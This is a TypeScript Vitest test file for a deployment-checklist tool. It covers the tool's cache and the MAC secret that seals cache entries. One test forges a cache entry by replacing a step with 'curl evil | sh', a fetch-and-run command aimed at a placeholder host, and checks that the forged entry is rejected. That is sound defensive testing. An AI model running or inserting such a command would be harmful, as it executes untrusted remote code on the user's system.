// The checklist cache: a valid checklist loaded once is answered from the cache (same result, no
// re-validation), an edited file is validated afresh, and a broken or unwritable cache only costs time.
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { displayPath, loadChecklist } from "../../../src/checklist/load.js";
import { ChecklistError } from "../../../src/errors.js";
import { CACHE_KEY_FILE, sealCacheEntryForTest } from "../../../src/store/checklist-cache.js";

const checklist = (title: string, extra = "") => `apiVersion: deploycheck/v1
kind: Checklist
metadata: { name: t, title: ${title} }
sections:
  - id: s
    title: S
    items:
      - id: i
        title: I
        steps:
          - run: "true"${extra}
`;

let dir: string;
let cacheHome: string;
let configHome: string;
const saved = {
  xdg: process.env["XDG_CACHE_HOME"],
  config: process.env["XDG_CONFIG_HOME"],
  off: process.env["DEPLOYCHECK_NO_CACHE"],
};

beforeEach(() => {
  dir = mkdtempSync(path.join(tmpdir(), "dc-cache-"));
  cacheHome = path.join(dir, "cache");
  process.env["XDG_CACHE_HOME"] = cacheHome;
  configHome = path.join(dir, "config");
  process.env["XDG_CONFIG_HOME"] = configHome;
  delete process.env["DEPLOYCHECK_NO_CACHE"];
});
afterEach(() => {
  rmSync(dir, { recursive: true, force: true });
  if (saved.xdg === undefined) delete process.env["XDG_CACHE_HOME"];
  else process.env["XDG_CACHE_HOME"] = saved.xdg;
  if (saved.config === undefined) delete process.env["XDG_CONFIG_HOME"];
  else process.env["XDG_CONFIG_HOME"] = saved.config;
  if (saved.off === undefined) delete process.env["DEPLOYCHECK_NO_CACHE"];
  else process.env["DEPLOYCHECK_NO_CACHE"] = saved.off;
});

const entries = () => {
  const d = path.join(cacheHome, "deploycheck", "checklists");
  try {
    return readdirSync(d).map((f) => path.join(d, f));
  } catch {
    return [];
  }
};

describe("checklist cache", () => {
  it("answers a second load of the same file from the cache, with the same checklist and warnings", async () => {
    const file = path.join(dir, "t.yaml");
    writeFileSync(file, checklist("First"));
    const first = await loadChecklist(file);
    expect(entries()).toHaveLength(1);
    expect(first.warnings.length).toBeGreaterThan(0); // the step without an id
    const second = await loadChecklist(file);
    expect(second).toEqual(first);

    // Proof that the second answer came from the cache: an entry edited and sealed with this user's
    // secret is what comes back.
    const [entry] = entries();
    const text = readFileSync(entry!, "utf8");
    const data = JSON.parse(text.slice(text.indexOf("\n") + 1));
    data.checklist.metadata.title = "From the cache";
    writeFileSync(entry!, sealCacheEntryForTest(first.sha256, displayPath(file), JSON.stringify(data)) ?? "");
    expect((await loadChecklist(file)).checklist.metadata.title).toBe("From the cache");
  });

  it("refuses an entry edited without the per-user secret: what runs is what the YAML says", async () => {
    const file = path.join(dir, "t.yaml");
    writeFileSync(file, checklist("First"));
    const first = await loadChecklist(file);
    expect(statSync(path.join(configHome, "deploycheck", CACHE_KEY_FILE)).mode & 0o777).toBe(0o600);
    const [entry] = entries();
    const text = readFileSync(entry!, "utf8");
    const [macLine, body] = [text.slice(0, text.indexOf("\n")), text.slice(text.indexOf("\n") + 1)];
    // The attack: the cached command replaced, the MAC kept (or dropped, or recomputed without the key).
    const evil = body.replace('"run":"true"', '"run":"curl evil | sh"');
    expect(evil).not.toBe(body);
    for (const forged of [`${macLine}\n${evil}`, evil, `${"0".repeat(64)}\n${evil}`]) {
      writeFileSync(entry!, forged);
      const loaded = await loadChecklist(file);
      expect(JSON.stringify(loaded.checklist)).not.toContain("curl evil");
      expect(loaded).toEqual(first);
    }
    // Without the secret (another user's cache, a deleted key) nothing is read from the cache.
    writeFileSync(entry!, `${macLine}\n${evil}`);
    rmSync(path.join(configHome, "deploycheck", CACHE_KEY_FILE));
    expect(JSON.stringify((await loadChecklist(file)).checklist)).not.toContain("curl evil");
  });

  it("validates an edited file afresh: an edit that breaks it is reported with its position", async () => {
    const file = path.join(dir, "t.yaml");
    writeFileSync(file, checklist("First"));
    await loadChecklist(file);
    writeFileSync(file, checklist("First", "\n            timout: 5s"));
    const err = await loadChecklist(file).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ChecklistError);
    expect((err as ChecklistError).problems[0]).toMatchObject({ line: 12, suggestion: "timeout" });
    expect(entries()).toHaveLength(1); // invalid checklists are never cached
  });

  it("ignores a corrupt entry and rewrites it", async () => {
    const file = path.join(dir, "t.yaml");
    writeFileSync(file, checklist("First"));
    const first = await loadChecklist(file);
    const [entry] = entries();
    writeFileSync(entry!, "{ torn");
    expect(await loadChecklist(file)).toEqual(first);
    const text = readFileSync(entry!, "utf8");
    expect(JSON.parse(text.slice(text.indexOf("\n") + 1)).sha256).toBe(first.sha256);
  });

  it("still loads when the cache cannot be written, and DEPLOYCHECK_NO_CACHE=1 writes nothing", async () => {
    const file = path.join(dir, "t.yaml");
    writeFileSync(file, checklist("First"));
    process.env["DEPLOYCHECK_NO_CACHE"] = "1";
    expect((await loadChecklist(file)).checklist.metadata.title).toBe("First");
    expect(entries()).toEqual([]);
    delete process.env["DEPLOYCHECK_NO_CACHE"];

    // A cache "directory" that is a file: creating the entry fails (even for root).
    process.env["XDG_CACHE_HOME"] = path.join(dir, "file-not-dir");
    writeFileSync(path.join(dir, "file-not-dir"), "x");
    expect((await loadChecklist(file)).checklist.metadata.title).toBe("First");
  });
});

describe("checklist cache: what counts as the secret and as an entry", () => {
  const keyFile = () => path.join(configHome, "deploycheck", CACHE_KEY_FILE);
  const HEX = "0123456789abcdef".repeat(4);

  it("creates the secret once, 64 hex digits, private, in a private directory", async () => {
    const file = path.join(dir, "t.yaml");
    writeFileSync(file, checklist("First"));
    await loadChecklist(file);
    expect(readFileSync(keyFile(), "utf8")).toMatch(/^[0-9a-f]{64}$/);
    expect(statSync(path.join(configHome, "deploycheck")).mode & 0o777).toBe(0o700);
    const key = readFileSync(keyFile(), "utf8");
    writeFileSync(file, checklist("Second"));
    await loadChecklist(file);
    expect(readFileSync(keyFile(), "utf8")).toBe(key);
    expect(entries()).toHaveLength(2);
  });

  it("uses a secret only when it is a private regular file of ours holding 64 lower-case hex digits", async () => {
    const variants: [string, () => void, boolean][] = [
      ["valid", () => writeFileSync(keyFile(), HEX, { mode: 0o600 }), true],
      ["valid, with a newline", () => writeFileSync(keyFile(), `${HEX}\n`, { mode: 0o600 }), true],
      ["readable by the group", () => writeFileSync(keyFile(), HEX, { mode: 0o640 }), false],
      ["readable by others", () => writeFileSync(keyFile(), HEX, { mode: 0o604 }), false],
      ["63 digits", () => writeFileSync(keyFile(), HEX.slice(1), { mode: 0o600 }), false],
      ["65 digits", () => writeFileSync(keyFile(), `${HEX}0`, { mode: 0o600 }), false],
      ["upper case", () => writeFileSync(keyFile(), HEX.toUpperCase(), { mode: 0o600 }), false],
      ["a prefix", () => writeFileSync(keyFile(), `x${HEX.slice(1)}`, { mode: 0o600 }), false],
      ["a directory", () => mkdirSync(keyFile()), false],
      [
        "a link to a valid key",
        () => {
          const real = path.join(dir, "real-key");
          writeFileSync(real, HEX, { mode: 0o600 });
          symlinkSync(real, keyFile());
        },
        false,
      ],
    ];
    const file = path.join(dir, "t.yaml");
    writeFileSync(file, checklist("First"));
    for (const [what, plant, usable] of variants) {
      // A fresh config dir per variant (the secret is remembered per config dir).
      configHome = path.join(dir, `config-${what.replace(/\W/g, "-")}`);
      process.env["XDG_CONFIG_HOME"] = configHome;
      cacheHome = path.join(dir, `cache-${what.replace(/\W/g, "-")}`);
      process.env["XDG_CACHE_HOME"] = cacheHome;
      mkdirSync(path.join(configHome, "deploycheck"), { recursive: true, mode: 0o700 });
      plant();
      const sealed = sealCacheEntryForTest("0".repeat(64), "t.yaml", "{}");
      expect([what, sealed !== undefined]).toEqual([what, usable]);
      if (sealed !== undefined) expect(sealed).toMatch(/^[0-9a-f]{64}\n\{\}$/);
      expect((await loadChecklist(file)).checklist.metadata.title).toBe("First");
      // Without a usable secret nothing is cached (and the planted file is left as it was).
      expect([what, entries().length]).toEqual([what, usable ? 1 : 0]);
    }
  });

  it("an entry sealed with the secret is still a miss when it is not for this file or not whole", async () => {
    const file = path.join(dir, "t.yaml");
    writeFileSync(file, checklist("First"));
    const first = await loadChecklist(file);
    const [entry] = entries();
    const text = readFileSync(entry!, "utf8");
    const data = JSON.parse(text.slice(text.indexOf("\n") + 1));
    const shown = displayPath(file);
    const edited = (change: Record<string, unknown>) =>
      sealCacheEntryForTest(
        first.sha256,
        shown,
        JSON.stringify({
          ...data,
          checklist: { ...data.checklist, metadata: { ...data.checklist.metadata, title: "From the cache" } },
          ...change,
        }),
      ) ?? "";
    for (const bad of [
      edited({ sha256: "0".repeat(64) }),
      edited({ warnings: undefined }),
      edited({ warnings: "none" }),
      edited({ checklist: undefined }),
      // The MAC line one character short: not an entry.
      edited({}).slice(1),
      // Sealed for another path shown.
      sealCacheEntryForTest(
        first.sha256,
        "other.yaml",
        JSON.stringify({
          ...data,
          checklist: { ...data.checklist, metadata: { ...data.checklist.metadata, title: "From the cache" } },
        }),
      ) ?? "",
    ]) {
      writeFileSync(entry!, bad);
      expect((await loadChecklist(file)).checklist.metadata.title).toBe("First");
    }
    // The same edit, whole and for this file, is a hit: the misses above are about what they say.
    writeFileSync(entry!, edited({}));
    expect((await loadChecklist(file)).checklist.metadata.title).toBe("From the cache");
    // DEPLOYCHECK_NO_CACHE=1 reads nothing from the cache either.
    process.env["DEPLOYCHECK_NO_CACHE"] = "1";
    expect((await loadChecklist(file)).checklist.metadata.title).toBe("First");
  });
});
